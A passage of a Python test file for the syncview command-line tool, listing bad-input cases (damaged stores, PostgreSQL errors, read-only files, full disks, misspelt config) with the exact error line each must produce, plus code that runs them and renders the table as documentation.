          "stopped reading it; lower this integration's page size, or raise max_response_bytes if the product's "
          "pages really are that large")),
    Case("trickle", "product: an answer trickling one byte every 0.1 s (`request_deadline = 1`)",
         "syncview sync Halo", _trickle,
         ("syncview: error: Halo: POST /auth/token did not finish within 1 s (request_deadline); the server "
          "answers too slowly: check the network and any proxy, or raise request_deadline")),
    # ---- the store file
    Case("not-sqlite", "store: a text file, not a database",
         "syncview status", _not_sqlite,
         ("syncview: error: <tmp>/syncview.db is not a syncview store (not an SQLite database); choose "
          "another --db path")),
    Case("other-sqlite", "store: an SQLite database of another program",
         "syncview status", _other_sqlite,
         ("syncview: error: <tmp>/syncview.db is an SQLite database but not a syncview store; choose another "
          "--db path")),
    Case("truncated-store", "store: a copy of the store cut off at half its size",
         "syncview status", _truncated_store,
         ("syncview: error: <tmp>/syncview.db is not a syncview store or is damaged (SQLite says: database "
          "disk image is malformed); choose another --db path, or restore a backup with `syncview restore "
          "BACKUP`")),
    Case("unreadable-store", "store: the file cannot be read (chmod 000)",
         "syncview status", _unreadable_store,
         "syncview: error: Invalid value for '--db': File '<tmp>/syncview.db' is not readable. (see `syncview --help`)",
         code=2, process=True),
    Case("newer-schema", "store: written by a newer syncview (schema 99)",
         "syncview status", _newer_schema,
         ("syncview: error: <tmp>/syncview.db was written by a newer syncview (schema 99; this one reads up "
          "to <N>): upgrade syncview, or use another --db path")),
    Case("pg-bad-url", "PostgreSQL: a URL whose port is not a number",
         "syncview --db postgresql://postgres@127.0.0.1:five/syncview status", _pg_bad_port,
         ("syncview: error: postgresql://postgres@127.0.0.1:five/syncview is not a PostgreSQL URL syncview can read "
          "(its port must be a number); write it as postgresql://user@host:port/database")),
    Case("pg-refused", "PostgreSQL: nothing listens on the URL's port",
         "syncview --db postgresql://postgres@127.0.0.1:PORT/syncview status", _pg_refused,
         ("syncview: error: cannot reach the PostgreSQL server 127.0.0.1:<port> (connection refused): check it is "
          "running and the --db URL's host and port")),
    Case("pg-no-database", "PostgreSQL: the server has no such database",
         "syncview --db postgresql://postgres@HOST/syncview_no_such_database status", _pg_no_database,
         ("syncview: error: the PostgreSQL server 127.0.0.1:<port> has no database 'syncview_no_such_database': "
          "create it (createdb syncview_no_such_database) or fix the --db URL")),
    Case("pg-no-user", "PostgreSQL: the server has no such user (role)",
         "syncview --db postgresql://syncview_no_such_user@HOST/DB status", _pg_no_user,
         ("syncview: error: the PostgreSQL server 127.0.0.1:<port> has no user 'syncview_no_such_user': create it "
          "or fix the --db URL")),
    Case("pg-not-ours", "PostgreSQL: the database holds another application's tables",
         "syncview --db postgresql://postgres@HOST/DB status", _pg_not_ours,
         ("syncview: error: the database postgresql://postgres@127.0.0.1:<port>/<db> holds tables but is not a "
          "syncview store; give syncview an empty database of its own (createdb syncview) and point --db at it")),
    Case("pg-newer-schema", "PostgreSQL: a store written by a newer syncview (schema 99)",
         "syncview --db postgresql://postgres@HOST/DB status", _pg_newer,
         ("syncview: error: postgresql://postgres@127.0.0.1:<port>/<db> was written by a newer syncview (schema 99; "
          "this one reads up to <N>): upgrade syncview, or use another --db")),
    Case("pg-password-in-config", "PostgreSQL: a password written into the URL in the config file",
         "syncview status", _pg_password_in_config,
         ("syncview: error: config error in <tmp>/config.toml: store.path holds a password; it must not be written "
          'in the file: remove it from the URL and write password = "env:VAR" under [store] (or use PGPASSWORD or '
          "~/.pgpass)")),
    Case("read-only-file", "store: the file is read-only (chmod 0444)",
         "syncview exclude ID", _read_only_file,
         ("syncview: error: the store <tmp>/syncview.db is read-only; nothing was written: check the "
          "permissions of the file and of its directory (the write-ahead log is made beside it)"), process=True),
    Case("read-only-dir", "store: its directory is read-only (chmod 0555), so no write-ahead log can be made",
         "syncview exclude ID", _read_only_dir,
         ("syncview: error: the store <tmp>/syncview.db is read-only; nothing was written: check the "
          "permissions of the file and of its directory (the write-ahead log is made beside it)"), process=True),
    Case("backup-read-only-dir", "backup: into a read-only directory",
         "syncview backup backups/monday.db", _backup_to_read_only_dir,
         "syncview: error: cannot write <tmp>/backups/monday.db: check the directory exists and is writable",
         process=True),
    Case("restore-not-a-store", "restore: a file that is not a syncview store",
         "syncview restore notes.db", _restore_not_a_store,
         ("syncview: error: <tmp>/notes.db is not a syncview store (not an SQLite database); the store was left "
          "as it is")),
    Case("restore-locked", "restore: another process holds the store's write lock and never lets go",
         "syncview restore monday.db", _restore_while_locked,
         ("syncview: error: <tmp>/syncview.db is locked by another syncview process (waited 5 s); try again "
          "when it has finished; the store is unchanged (and saved to <tmp>/syncview.db.before-restore.bak)")),
    Case("db-odd-name", "store: `--db 'x?y%41.db'` (URI characters in the file name)",
         "syncview --db 'x?y%41.db' status", _odd_db_name,
         "Store: <tmp>/x?y%41.db", code=0, survivable=True),
    Case("db-odd-name-doctor", "store: doctor of `--db 'x?y%41.db'` (the same file as the store opens)",
         "syncview --db 'x?y%41.db' doctor --offline", _odd_db_doctor,
         "3 checks passed", code=0, survivable=True),
    Case("backup-read-only-media", "backup: a store on read-only media (the file and its directory read-only)",
         "syncview backup backups/monday.db", _read_only_media,
         ("Backed up <tmp>/media/syncview.db to <tmp>/backups/monday.db (1.9 MB, 2,000 resources, schema 4)"), code=0, survivable=True, process=True),
    Case("full-disk-sync", "store: the disk fills up during a sync",
         "syncview sync Halo", _full_disk_sync,
         ("syncview: error: Halo: the disk holding <tmp>/syncview.db is full; nothing was written: free some "
          "space and retry"), retry_ok=True),
    Case("full-disk-demo", "store: the disk fills up while seeding the demo",
         "syncview demo", _full_disk_demo,
         ("syncview: error: the disk holding <tmp>/syncview.db is full; nothing was written: free some space "
          "and retry"), retry_ok=True),
    Case("scope-not-a-list", 'config: a scope setting written as text (`company_types = "Client"`)',
         "syncview status", _scope_not_a_list,
         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("CW"): company_types must be a '
          'list of names, e.g. ["Client", "Partner"], got \'Client\'')),
    Case("unknown-serial-field", 'config: `serial_field = "serial"`, not one of Halo\'s asset key fields',
         "syncview sync Halo", _unknown_serial_field,
         ('syncview: error: integration "Halo": serial_field must be one of key_field, key_field2, key_field3, '
          "inventory_number, got 'serial'")),
    Case("misspelt-match-on", 'config: `match_on = ["serail", "name"]`, a rule misspelt',
         "syncview sync Halo", _misspelt_match_on,
         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): match_on has unknown rule '
          "'serail' (did you mean \"serial\"?); expected a list of rules from xref, serial, mac, email, name, "
          'e.g. match_on = ["serial", "name"]')),
    Case("placeholder-mac-not-a-mac", "config: a placeholder MAC in `[identity]` that is not a MAC (5 octets)",
         "syncview status", _placeholder_mac_not_a_mac,
         ("syncview: error: config error in <tmp>/config.toml: identity.placeholder_macs: '00:11:22:33:44' is not "
          'a MAC address; write 12 hex digits in any notation, e.g. "00:11:22:33:44:55"')),
)


# --------------------------------------------------------------------------- running a case


def normalise(text: str, world: World) -> str:
    """A line as the doc shows it: temporary paths, ports, times and durations replaced by placeholders."""
    text = text.replace(str(world.dir), "<tmp>").strip()
    text = re.sub(r"127\.0\.0\.1:\d+", "127.0.0.1:<port>", text)
    text = re.sub(r"/syncview_test_\d+_[0-9a-f]+", "/<db>", text)  # a test database's name (tests/pg.py)
    text = re.sub(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+00:00", "<time>", text)
    text = re.sub(r"this one reads up to \d+", "this one reads up to <N>", text)
    text = re.sub(r"\(_ssl\.c:\d+\)", "(_ssl.c:<line>)", text)  # the line of CPython's ssl module
    return re.sub(r" in \d+\.\d s", " in <t> s", text)


#: Root ignores file modes (CAP_DAC_OVERRIDE): a process of its own without that power sees them.
_WITHOUT_ROOT_OVERRIDE = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"]


@functools.cache
def _can_drop_override() -> bool:
    if not shutil.which("setpriv"):
        return False
    return subprocess.run([*_WITHOUT_ROOT_OVERRIDE, "true"], capture_output=True).returncode == 0


def _run(case: Case, world: World, args: list[str]) -> Ran:
    prefix = ["--db", world.db] + (["--config", world.config] if world.config else [])
    if not case.process:
        return invoke(*prefix, *args, env=world.env)
    launcher: list[str] = []
    if os.geteuid() == 0:
        if not _can_drop_override():
            pytest.skip("running as root, and setpriv cannot drop the override of file modes here")
        launcher = _WITHOUT_ROOT_OVERRIDE
    done = subprocess.run([*launcher, *command(*prefix, *args)], env=environment({**world.env, "COLUMNS": "200"}),
                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=TIMEOUT)
    return Ran(tuple(map(str, args)), done.returncode, done.stdout, done.stderr)


def _stored(world: World) -> dict[str, list[tuple]] | bytes | list[str] | None:
    if isinstance(world.db, str):  # a PostgreSQL store's URL
        from tests import pg

        try:
            return pg.pg_snapshot(world.db)
        except Exception:  # noqa: BLE001 - unreachable, or no such database: nothing there to change
            return None
    if not world.db.exists():
        return None
    if world.db.read_bytes()[:16] != b"SQLite format 3\x00":
        return world.db.read_bytes()
    try:
        return content(world.db, DATA_TABLES)
    except sqlite3.DatabaseError:
        return world.db.read_bytes()


@pytest.fixture
def world(tmp_path, serve, _demo_template, monkeypatch) -> Iterator[World]:
    monkeypatch.setattr(http.client, "RetryPolicy", QuickRetry)  # where HttpClient reads it
    w = World(tmp_path, serve, _demo_template)
    yield w
    w.fix()
    for cleanup in reversed(w.cleanups):
        cleanup()


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=[pytest.mark.slow] * c.process) for c in CASES])
def test_bad_input(case: Case, world: World) -> None:
    args = case.setup(world)
    before = _stored(world)
    result = _run(case, world, args)
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    assert result.code == case.code, f"exit {result.code}\n{result.stdout}\n{result.stderr}"
    if case.survivable:
        seen = [normalise(line, world) for line in result.stdout.splitlines()]
        assert case.sees in seen, "\n".join(seen)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.stdout), "a raw control character reached the screen"
        assert_consistent(world.db)
        return
    line = normalise(result.error_line(), world)
    assert line == case.sees
    assert _stored(world) == before, "the store changed"
    if isinstance(before, dict):
        assert_consistent(world.db)
    if case.retry_ok:
        world.fix()
        _run(case, world, args).ok()
        assert_consistent(world.db)


# --------------------------------------------------------------------------- the doc


DOC_HEAD = """# Bad input: what was tried and what you see

Every row is a test case of `tests/reliability/test_bad_input.py` (this file is generated
from its `CASES` table, and a test fails when the two differ). Each case builds the input for
real: config files, SQLite stores, fake product servers on a loopback socket, a full disk
(SQLite's page limit on every connection syncview opens, which fails a write with SQLITE_FULL
exactly as a full disk does) and read-only files (checked in a process without root's override
of file modes). Then it runs the command and checks the exit status and the exact line below.

A failing command exits with status 1 (2 when the command line itself is refused, as click
refuses an unreadable `--db`) and prints that one line on standard error: no traceback, and
the store holds exactly what it held before (a failed sync records its failed run, nothing
else). Where the line says what to do (free disk space, trust a certificate), the test does it
and runs the command again: it succeeds. Network failures are retried (three tries in the
tests, five by default) before the line is printed; each retry is announced on a `syncview:
warning:` line of its own. In the lines, `<tmp>` stands for the test's directory, `<port>` for
a loopback port, `<t>` and `<time>` for a duration and a time, `<N>` for this syncview's
schema version, `<line>` for a line of Python's ssl module and `<db>` for a test database on
the PostgreSQL server the tests are given (`SYNCVIEW_TEST_PG`; without one, the cases that
need it skip).

| # | input tried | command | exit | what you see |
| --- | --- | --- | --- | --- |
"""


def _code(text: str) -> str:
    """``text`` as a code span inside a Markdown table cell."""
    text = text.replace("|", "\\|")
    fence = "``" if "`" in text else "`"
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _cell(text: str) -> str:
    return text.replace("|", "\\|")


def render_doc() -> str:
    rows = [f"| {number} | {_cell(case.tried)} | {_code(case.command)} | {case.code} | {_code(case.sees)} |"
            for number, case in enumerate(CASES, start=1)]
    return DOC_HEAD + "\n".join(rows) + "\n"


def test_the_doc_is_the_table() -> None:
    """docs/bad-input.md is CASES rendered: a case added, changed or removed shows in the doc."""
    if os.environ.get("SYNCVIEW_UPDATE_DOCS"):
        DOC.parent.mkdir(exist_ok=True)
        DOC.write_text(render_doc(), encoding="utf-8")
    assert DOC.exists() and DOC.read_text(encoding="utf-8") == render_doc(), (
        "docs/bad-input.md differs from CASES; regenerate it with "
        "SYNCVIEW_UPDATE_DOCS=1 .venv/bin/pytest tests/reliability/test_bad_input.py -k doc")


def test_every_case_has_its_own_id_and_line() -> None:
    ids = [case.id for case in CASES]
    assert len(ids) == len(set(ids))
    assert all(case.code == 0 or case.sees.startswith("syncview: error: ") for case in CASES)
    assert all(case.code in (0, 1, 2) and (case.code == 0) == case.survivable for case in CASES)
